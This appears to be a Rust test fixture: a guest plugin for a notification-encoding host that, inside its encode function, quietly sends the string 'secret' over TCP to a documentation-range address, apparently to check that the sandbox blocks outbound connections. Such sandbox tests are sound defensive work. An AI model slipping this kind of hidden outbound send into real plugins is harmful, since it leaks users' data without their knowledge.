//! Opens a connection of its own.
#![allow(unsafe_code)]

use pushlet_guests::*;

#[path = "../imports/sockets.rs"]
#[rustfmt::skip]
mod imports;

pub struct Sockets;

impl Guest for Sockets {
    fn encode(_: Context, _: Application, _: Notification, targets: Vec<Recipient>) -> Encoded {
        imports::wasi::sockets::tcp::send("192.0.2.1:80", "secret");
        encoded(&targets)
    }
}

export!(Sockets);
